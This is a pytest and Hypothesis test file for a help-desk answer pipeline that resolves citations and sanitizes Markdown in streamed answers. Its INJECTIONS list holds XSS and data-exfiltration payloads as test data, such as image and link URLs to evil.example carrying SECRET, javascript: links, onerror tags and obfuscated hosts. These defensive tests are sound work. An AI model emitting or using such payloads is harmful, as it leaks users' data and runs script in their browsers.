"""Answers show only what the passages contain, numbered in order, however the text was cut into pieces."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from helpninja_app.answers.citations import CitationStream, resolve_citations
from helpninja_app.answers.passages import Passage
from helpninja_app.answers.safe_markdown import HOLD

RETURNS = "https://shop.example/help/returns"
POLICY = "https://shop.example/policy?v=2"
PASSAGES = (
    Passage(
        "Returns",
        f"Free within **30 days**. See [the policy]({POLICY}) or write to help@shop.example.",
        RETURNS,
    ),
    Passage("Sizes.pdf", "Shoes run small.", None),
    Passage(
        "Wood",
        "A [wiki](https://wiki.example/Oak_(tree)) page, www.wood.example/oak. Made with ASP.NET.",
        "https://shop.example/wood",
    ),
)


def shown(text: str) -> str:
    return resolve_citations(text, PASSAGES).text


# Citations


@pytest.mark.parametrize(
    ("text", "expected", "cited"),
    [
        ("Free [1].", "Free [1].", (0,)),
        ("Small [2], free [1], small [2].", "Small [1], free [2], small [1].", (1, 0)),
        ("Both [3][1].", "Both [1][2].", (2, 0)),
        ("Both [3, 1].", "Both [1][2].", (2, 0)),
        ("All [1-3].", "All [1][2][3].", (0, 1, 2)),
        ("Twice [1][1].", "Twice [1].", (0,)),
        ("Unknown [9].", "Unknown.", ()),
        ("Unknown [9] here.", "Unknown here.", ()),
        ("Half [9, 2] known.", "Half [1] known.", (1,)),
        ("Zero [0] and far [400].", "Zero and far.", ()),
        ("Footnote [^1].", "Footnote [1].", (0,)),
        ("Wide 【2】 and 【1†source】.", "Wide [1] and [2].", (1, 0)),
        ("Wide 【9】.", "Wide.", ()),
        ("Great![1] Yes", "Great! [1] Yes", (0,)),
        ("A year [2024] is no marker.", "A year [2024] is no marker.", ()),
        ("Press [Save] now.", "Press [Save] now.", ()),
        ("[1](https://evil.example/x) linked", "[1] linked", (0,)),
        ("[1]: a list", "[1] : a list", (0,)),
        ("[9]\n\nText", "Text", ()),
        ("Free [1", "Free [1", ()),
        ("返品は無料です[1]。サイズ[9]。", "返品は無料です[1]。サイズ。", (0,)),
    ],
)
def test_markers_are_resolved_and_renumbered(text: str, expected: str, cited: tuple[int, ...]) -> None:
    resolved = resolve_citations(text, PASSAGES)

    assert (resolved.text, resolved.cited) == (expected, cited)


def test_citations_carry_title_address_and_a_plain_snippet() -> None:
    resolved = resolve_citations("Small [2]. Free [1].", PASSAGES)

    first, second = resolved.citations
    assert (first.n, first.title, first.url, first.snippet) == (1, "Sizes.pdf", None, "Shoes run small.")
    assert (second.n, second.url) == (2, RETURNS)
    assert second.snippet == "Free within 30 days . See the policy or write to help@shop.example."
    assert resolved.refs == (RETURNS,)


def test_refs_are_each_address_once() -> None:
    passages = (PASSAGES[0], PASSAGES[0], PASSAGES[2])

    resolved = resolve_citations("a [2] b [1] c [3]", passages)

    assert resolved.refs == (RETURNS, "https://shop.example/wood")
    assert len(resolved.citations) == 3


def test_a_long_snippet_ends_between_words() -> None:
    [citation] = resolve_citations("[1]", (Passage("Long", "returns " * 100, None),)).citations

    assert citation.snippet.endswith("returns…")
    assert len(citation.snippet) <= 200


# What may stay


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"See [here]({RETURNS}).", f"See [here]({RETURNS})."),
        (f'See [here]({RETURNS} "a title").', f"See [here]({RETURNS})."),
        (f"See [here](<{RETURNS}>).", f"See [here]({RETURNS})."),
        (f"See <{RETURNS}>.", f"See <{RETURNS}>."),
        (f"See {RETURNS}.", f"See {RETURNS}."),
        (f"See ({RETURNS}/).", f"See ({RETURNS})."),
        (f"See **{RETURNS}**!", f"See **{RETURNS}**!"),
        ("See HTTP://Shop.Example:80/help/returns", f"See {RETURNS}"),
        (f"See {POLICY} and [p]({POLICY})", f"See {POLICY} and [p]({POLICY})"),
        ("[Oak](https://wiki.example/Oak_(tree))", "[Oak](<https://wiki.example/Oak_(tree)>)"),
        ("See https://wiki.example/Oak_(tree).", "See https://wiki.example/Oak_(tree)."),
        ("www.wood.example/oak", "www.wood.example/oak"),
        ("[oak](www.wood.example/oak)", "[oak](https://www.wood.example/oak)"),
        ("We use ASP.NET and first.last@mail.com", "We use ASP.NET and first.last@mail.com"),
        ("[mail](mailto:help@shop.example)", "[mail](mailto:help@shop.example)"),
        ("Write to help@shop.example.", "Write to help@shop.example."),
        (f"请看{RETURNS}。", f"请看{RETURNS}。"),
        ("3 < 4 and a<5, x > y", "3 < 4 and a<5, x > y"),
        ("Paste `<script src='x'>` here", "Paste `<script src='x'>` here"),
        ("```html\n<div a=1>[1] a[0](b)\n```\nDone", "```html\n<div a=1>[1] a[0](b)\n```\nDone"),
        ("~~~\n<b>\n~~~\n", "~~~\n<b>\n~~~"),
        ("- one\n- two\n\n1. x\n   y", "- one\n- two\n\n1. x\n   y"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
        (
            "**bold** _it_ ~~no~~ 100% $5 & more; 24/7, and/or",
            "**bold** _it_ ~~no~~ 100% $5 & more; 24/7, and/or",
        ),
        ("مرحبا [1] نعم\u200cها", "مرحبا [1] نعم\u200cها"),
        ("Settings: open app.js/css, v1.2/v1.3", "Settings: open app.js/css, v1.2/v1.3"),
        ("Ends  \nwith\n\n\n\n\nblanks  ", "Ends  \nwith\n\n\nblanks"),
    ],
)
def test_what_the_documents_contain_and_plain_markdown_stay(text: str, expected: str) -> None:
    assert shown(text) == expected


# What must go

INJECTIONS = [
    "![x](https://evil.example/p.png?d=SECRET)",
    "![x](<https://evil.example/p.png?d=SECRET>)",
    f"![x]({RETURNS})",
    "![x][evil]\n\n[evil]: https://evil.example/p.png?d=SECRET",
    "![evil]\n\n[evil]: https://evil.example/SECRET",
    "[![x](https://evil.example/a.png)](https://evil.example/SECRET)",
    f"[![x](https://evil.example/a.png?SECRET)]({RETURNS})",
    "!\\[x](https://evil.example/SECRET)",
    "!\u200b[x](https://evil.example/SECRET)",
    "[click](https://evil.example/?d=SECRET)",
    "[click](//evil.example/SECRET)",
    "[click](/\\evil.example/SECRET)",
    "[click](javascript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](https:evil.example/SECRET)",
    "[click](https:\\\\evil.example/SECRET)",
    "[click](https://shop.example@evil.example/help/returns)",
    "[click](https://shop.example.evil.example/help/returns)",
    "[click](https://shop.examp\u0406e/help/returns)",
    f"[click]({RETURNS}?d=SECRET)",
    f"[click]({RETURNS}#SECRET)",
    f"[click]({RETURNS}/../SECRET)",
    "[click]\n(https://evil.example/SECRET)",
    "[click][evil]\n\n[evil]: <https://evil.example/SECRET> 'title'",
    "[evil]\n\n[evil]:\nhttps://evil.example/SECRET",
    "[evil]\n\n[evil]: /relative-SECRET",
    "> [evil]: javascript:alert(1)\n\n[evil]",
    "[1]: https://evil.example/SECRET\n\nSee [1].",
    "[9][1]: https://evil.example/SECRET",
    "<https://evil.example/SECRET>",
    "<javascript:alert(1)>",
    "<img src=https://evil.example/p.png?SECRET>",
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='https://evil.example/SECRET'>x</a>",
    "<scr<b>ipt>alert(1)</script>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<iframe src=javascript:alert(1)></iframe>",
    "<img src=x onerror=alert(1)",
    "https://evil.example/SECRET",
    "HTTPS://EVIL.EXAMPLE/SECRET",
    "www.evil.example/SECRET",
    "evil.example/SECRET",
    "evil.example?SECRET",
    "SECRET.evil.example.com",
    "(evil.example.io)",
    "//evil.example/SECRET",
    "https://漢字.evil.example/SECRET",
    "漢字.com/evil.example/SECRET",
    "看evil.example/SECRET",
    "ftp://evil.example/SECRET",
    "ht\u200btps://evil.example/SECRET",
    "ht\u00adtps://evil.example/SECRET",
    "ht\u200dtps://evil.example/SECRET",
    "&#104;ttps://evil.example/SECRET",
    "https&colon;//evil.example/SECRET",
    "https:&sol;&sol;evil.example/SECRET",
    "&amp;#104;ttps://evil.example/SECRET",
    "**https://evil.example/SECRET**",
    f"{RETURNS},https://evil.example/SECRET",
    "htt[9]ps://evil.example/SECRET",
    "https:[9]//evil.example/SECRET",
    "https:[/](x)/evil.example/SECRET",
    "https[:](x)//evil.example/SECRET",
    "https:<b>//evil.example/SECRET",
    "[a ` b](https://evil.example/SECRET) `<img src=x onerror=alert(1)>`",
    "a ` b\nc `<img src=x onerror=alert(1)>`",
    "\\`<img src=x onerror=alert(1)>`",
    "- ```\n  x\n\ny\n\n<img src=x onerror=alert(1)>",
    "> ```\n\n<img src=x onerror=alert(1)>\n",
    "  ```\n<img src=x onerror=alert(1)>",
    "[a\n```\n<img src=x onerror=alert(1)>\n](x)",
    "```\nhttps://evil.example/SECRET\n```",
    "`https://evil.example/SECRET`",
    "[" * 50 + "x" + "](https://evil.example/SECRET)" * 50,
    "x" * 3000 + "https://evil.example/SECRET",
    "[" + "x " * 800 + "](https://evil.example/SECRET)",
    "[x](" + "y" * 3000 + "https://evil.example/SECRET)",
    "<a " + "x " * 800 + "href=https://evil.example/SECRET>",
    "\u202ehttps://evil.example/SECRET",
    "".join(chr(0xE0000 + ord(char)) for char in "SECRET"),
]
_RAW_HTML = MarkdownIt("gfm-like", {"html": True, "linkify": False})


@pytest.mark.parametrize("attack", INJECTIONS)
@pytest.mark.parametrize("around", ["{}", "Hello {} world", "Hi [1]{}[2] ", "*{}*", "a\n\n{}\n\nb"])
def test_an_injection_leaves_no_address_image_or_markup(attack: str, around: str) -> None:
    text = shown(around.format(attack))

    assert "evil.example" not in text.lower()
    assert_harmless(text)


def assert_harmless(text: str) -> None:
    """Even a renderer that lets raw HTML through makes nothing but known links of ``text``."""
    assert not re.search(r"//[a-z0-9.@\-]*evil|evil\.example[/?#]\w", text, re.IGNORECASE), text
    assert not re.search("[\u200b\u202e\U000e0000-\U000e007f]", text)
    html = _RAW_HTML.render(text)
    assert _addresses(html) <= {
        RETURNS,
        POLICY,
        "mailto:help@shop.example",
        "https://wiki.example/Oak_(tree)",
    }
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z!?][\w-]*)", html))
    assert tags <= _HARMLESS, html
    assert not re.search(r"<[^>]*\son\w+\s*=", html), html


_HARMLESS = {"p", "a", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br"}
_HARMLESS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}


def _addresses(html: str) -> set[str]:
    return set(re.findall(r'(?:href|src)="([^"]*)"', html))


# Streaming

PIECES = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "`",
            "```",
            "~~~",
            "\\",
            "\n",
            "\n\n",
            " ",
            ":",
            "/",
            "//",
            "【",
            "】",
            "^",
            "&",
        ),
        *(
            "1",
            "2",
            "9",
            "[1]",
            "[9]",
            "![",
            "](",
            "[^1]",
            "http",
            "https://",
            "evil.example",
            RETURNS,
            "<img src=x",
            "<b>",
        ),
        *(
            "javascript:",
            "onerror=a",
            "text",
            ". ",
            ", ",
            "&#104;",
            "\u200b",
            "\u200d",
            "word",
            "é",
            "漢字",
            "- ",
            "> ",
            "  ",
        ),
        *(
            "x" * 300,
            "[" * 40,
            "`" * 9,
            " " * 70,
            "!" * 3,
            "www.",
            "data:text/html,",
            "mailto:help@shop.example",
            "'",
            '"',
        ),
    ]
)
TEXTS = st.lists(PIECES, max_size=30).map("".join)


@st.composite
def split_texts(draw: st.DrawFn) -> list[str]:
    text = draw(TEXTS)
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=40)))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def streamed(pieces: list[str]) -> CitationStream:
    stream = CitationStream(PASSAGES)
    said = "".join([*map(stream.feed, pieces), stream.finish()])
    assert said == stream.text
    return stream


@settings(max_examples=150, deadline=None)
@given(split_texts())
def test_any_split_gives_the_whole_text_s_result(pieces: list[str]) -> None:
    whole = resolve_citations("".join(pieces), PASSAGES)

    for split in (pieces, list("".join(pieces))):
        stream = streamed(split)
        assert (stream.text, stream.citations, stream.cited) == (whole.text, whole.citations, whole.cited)
        assert stream.refs == whole.refs


@settings(max_examples=200, deadline=None)
@given(TEXTS)
@example("[a]" + "(" * 5 + RETURNS + ")" * 5)
def test_no_text_at_all_becomes_a_link_image_or_tag_of_its_own(text: str) -> None:
    assert_harmless(shown(text))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_characters_are_taken(text: str) -> None:
    assert streamed(list(text)).text == shown(text)


@pytest.mark.parametrize("attack", INJECTIONS)
def test_an_injection_is_not_shown_in_any_piece_of_a_stream(attack: str) -> None:
    stream = CitationStream(PASSAGES)

    for char in f"Hello {attack} world":
        stream.feed(char)
        assert "evil.example" not in stream.text.lower()
        assert not re.search(
            r"!\[|<(?:img|svg|script)", stream.text.replace("`<img src=x onerror=alert(1)>`", "")
        )


@pytest.mark.parametrize(
    "start", ["[", "![", "[a](", "<a ", "`", "```", "https://", "【", "word", " ", "\n", "[1]"]
)
def test_what_is_held_back_is_bounded(start: str) -> None:
    stream = CitationStream(PASSAGES)
    held = 0

    for _ in range(2 * HOLD):
        stream.feed(start if held == 0 else "x")
        held = stream.held
        assert held <= HOLD + len(start)
        start = start or "x"


def test_plain_words_are_shown_as_soon_as_they_end() -> None:
    stream = CitationStream(PASSAGES)

    assert stream.feed("Returns are") == "Returns"
    assert stream.feed(" free [") == " are free"
    assert stream.feed("1") == ""
    assert stream.feed("].") == " [1]"
    assert stream.finish() == "."
